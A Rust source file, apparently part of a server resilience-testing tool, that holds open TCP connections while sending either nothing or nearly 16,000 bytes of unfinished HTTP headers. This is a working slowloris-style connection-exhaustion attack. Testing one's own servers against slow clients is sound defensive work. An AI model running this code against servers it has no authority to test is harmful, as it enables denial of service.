//! Connections without a complete request.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::attack::attackers::Attackers;

/// The pause before a closed connection is opened again.
const PAUSE: Duration = Duration::from_secs(1);
/// The length of the sent headers, in bytes: slightly less than a host reads.
const HEADERS: usize = 16_000;

/// Connects and keeps the connection open until the host closes it.
pub(super) async fn say_nothing(attackers: &Attackers) -> anyhow::Result<()> {
    until_closed(attackers.dial().await?).await
}

/// The same, after sending most of the headers that a host reads, without their end.
pub(super) async fn say_half(attackers: &Attackers) -> anyhow::Result<()> {
    let mut stream = attackers.dial().await?;
    let mut request = b"GET /api/info HTTP/1.1\r\nx-padding: ".to_vec();
    request.resize(HEADERS, b'x');
    stream.write_all(&request).await?;
    until_closed(stream).await
}

async fn until_closed(mut stream: TcpStream) -> anyhow::Result<()> {
    // The host may reset the connection, which is no failure.
    let _closed = stream.read(&mut [0; 512]).await;
    drop(stream);
    tokio::time::sleep(PAUSE).await;
    Ok(())
}
